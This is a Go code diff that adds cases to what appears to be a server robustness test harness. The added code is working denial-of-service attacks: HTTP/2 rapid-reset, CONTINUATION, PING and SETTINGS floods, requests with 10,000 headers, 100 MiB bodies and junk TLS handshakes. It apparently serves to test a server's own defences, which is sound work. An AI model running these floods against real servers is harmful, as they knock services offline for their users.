@@ -304,6 +304,40 @@ func h2Frame(typ, flags byte, stream uint32, payload []byte) []byte {
 	return append(h, payload...)
 }
 
+// h2Get is an HPACK header block for GET path (no Huffman, no indexing).
+func h2Get(path string) []byte {
+	b := []byte{0x82, 0x86, 0x04, byte(len(path))}
+	b = append(b, path...)
+	return append(b, 0x01, 1, 'x')
+}
+
+// h2Flood sends the preface, then frame(0), frame(1), … in batches of
+// 1000 until the server closes the connection or stop closes.
+func h2Flood(c net.Conn, stop <-chan struct{}, frame func(i int) []byte) {
+	go func() { _, _ = io.Copy(io.Discard, c) }()
+	if _, err := io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"); err != nil {
+		return
+	}
+	if _, err := c.Write(h2Frame(0x4, 0, 0, nil)); err != nil {
+		return
+	}
+	for i := 0; ; {
+		var b []byte
+		for range 1000 {
+			b = append(b, frame(i)...)
+			i++
+		}
+		if _, err := c.Write(b); err != nil {
+			return
+		}
+		select {
+		case <-stop:
+			return
+		default:
+		}
+	}
+}
+
 // h2ZeroWindow opens 200 streams of /big with no flow-control window.
 func h2ZeroWindow(c net.Conn, stop <-chan struct{}) {
 	var b []byte
@@ -399,6 +433,60 @@ func attacks() []attack {
 					return
 				}
 				_, _ = io.Copy(io.Discard, tc)
+			})
+		}},
+		{"HTTP/2 rapid reset (HEADERS then RST_STREAM, 1000 streams a round)", false, func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				h2Flood(c, stop, func(i int) []byte {
+					id := uint32(2*i + 1)
+					return append(h2Frame(0x1, 0x5, id, h2Get("/")), h2Frame(0x3, 0, id, []byte{0, 0, 0, 8})...) // RST_STREAM CANCEL
+				})
+			})
+		}},
+		{"HTTP/2 CONTINUATION flood (headers that never end)", false, func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				h2Flood(c, stop, func(i int) []byte {
+					if i == 0 {
+						return h2Frame(0x1, 0x1, 1, h2Get("/")) // HEADERS, END_STREAM, no END_HEADERS
+					}
+					return h2Frame(0x9, 0, 1, append([]byte{0x00, 0x05}, "x-a: "...)) // CONTINUATION, literal never ending
+				})
+			})
+		}},
+		{"HTTP/2 PING flood", false, func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				h2Flood(c, stop, func(int) []byte { return h2Frame(0x6, 0, 0, make([]byte, 8)) })
+			})
+		}},
+		{"HTTP/2 SETTINGS flood", false, func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				h2Flood(c, stop, func(int) []byte { return h2Frame(0x4, 0, 0, []byte{0, 3, 0, 0, 0, 100}) })
+			})
+		}},
+		{"10,000 headers", false, func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n"+strings.Repeat("X-a: b\r\n", 10000)+"\r\n")
+				hold(c, stop)
+			})
+		}},
+		{"100 MiB request bodies", false, func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				if _, err := io.WriteString(c, "POST /body HTTP/1.1\r\nHost: x\r\nContent-Length: 104857600\r\n\r\n"); err != nil {
+					return
+				}
+				chunk := make([]byte, 64<<10)
+				for range 1600 {
+					if _, err := c.Write(chunk); err != nil {
+						return
+					}
+				}
+				hold(c, stop)
+			})
+		}},
+		{name: "garbage instead of a TLS handshake", tls: true, run: func(addr string, _ scale, stop <-chan struct{}) {
+			churn(addr, 8, stop, func(c net.Conn, stop <-chan struct{}) {
+				_, _ = io.WriteString(c, strings.Repeat("GET / HTTP/1.1\r\n", 100))
+				hold(c, stop)
 			})
 		}},
 		{"handler panics", false, func(addr string, _ scale, stop <-chan struct{}) {
